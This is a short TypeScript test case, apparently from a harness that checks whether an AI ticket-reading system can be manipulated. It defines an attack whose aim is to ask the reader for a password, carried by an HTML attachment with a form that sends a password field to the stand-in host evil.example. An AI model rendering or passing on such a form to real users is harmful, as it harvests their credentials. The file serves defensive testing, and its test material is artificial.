import type { Attack } from '../attack.ts';

export default {
  aim: 'ask the reader for a password',
  wall: 'markdown',
  ticket: {
    attachments: [
      { name: 'a.html', content: '<form action=https://evil.example><input name=pw></form>' },
    ],
  },
} satisfies Attack;
